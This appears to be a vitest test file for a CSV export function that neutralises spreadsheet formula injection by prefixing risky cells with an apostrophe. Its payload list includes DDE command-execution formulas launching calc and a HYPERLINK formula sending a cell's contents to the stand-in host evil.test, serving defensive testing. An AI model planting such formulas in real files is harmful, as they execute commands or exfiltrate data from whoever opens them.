import { describe, expect, it } from 'vitest'
import { readCsv } from '@/testing/read-csv'
import { csvLines, inertCell } from './csv'

const isFormula = (cell: string) =>
  /^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠]/u.test(cell) || /^[\t\r\n\0]/.test(cell)
const withoutGuard = (cell: string) =>
  cell
    .replace(/([;\t\r\n])'(?=[\s\p{Cc}\p{Cf}"']*[=+\-@＝＋－＠])/gu, '$1')
    .replace(/^'(?=[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠]|[\t\r\n\0])/u, '')

const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '+237670000001',
  ' =1+1',
  '   \t=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\t=1+1',
  '\tplain',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\0=1+1',
  '\0plain',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ';=1+1',
  ';;=1+1',
  'a;=1+1',
  'a; =1+1',
  'a;"=1+1',
  '";=1+1',
  'a\n=1+1',
  'a\r\n@cmd',
  'a\t=1+1',
  'a;\n=1+1',
  '"=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test?x="&A1;"click")',
  'DDE("cmd";"/C calc")',
]
const harmless = [
  '',
  'Amina Ngo Bassa',
  "N'Gono",
  'a,b',
  'say "hello"',
  'two\nlines',
  'a = b',
  'x;y',
  '5-6',
  'bene@example.cm',
  '🥭 mango',
  '0670000001',
]

describe('a cell', () => {
  it.each(harmless)('is left unchanged: %j', (text) => {
    expect(inertCell(text)).toBe(text)
  })

  it.each([
    ['=1+1', "'=1+1"],
    ['+237670000001', "'+237670000001"],
    [';=1+1', ";'=1+1"],
    ['＝1', "'＝1"],
    ['\t=1', "'\t'=1"],
  ])('%j becomes %j', (text, safe) => {
    expect(inertCell(text)).toBe(safe)
  })

  it('writes numbers, booleans and empty values', () => {
    expect([inertCell(7), inertCell(false), inertCell(null), inertCell(undefined)]).toEqual([
      '7',
      'false',
      '',
      '',
    ])
    expect(inertCell(-7)).toBe("'-7")
  })
})

describe('a file', () => {
  const rows = [...payloads, ...harmless].map((payload, index) => [`row ${index}`, payload, 'end'])
  const file = csvLines(rows)

  it.each([',', ';', '\t'])('has no formula cell when read with the separator %j', (separator) => {
    const cells = readCsv(file, separator).flat()
    expect(cells.filter(isFormula)).toEqual([])
  })

  it('reads back as it was written once the apostrophes are removed', () => {
    expect(readCsv(file).map((row) => row.map(withoutGuard))).toEqual(rows)
  })

  it('ends each line with CR LF and doubles quotes', () => {
    expect(
      csvLines([
        ['a', 'b "c"', null],
        ['d', 'e,f', 1],
      ]),
    ).toBe('a,"b ""c""",\r\nd,"e,f",1\r\n')
    expect(csvLines([])).toBe('')
  })
})
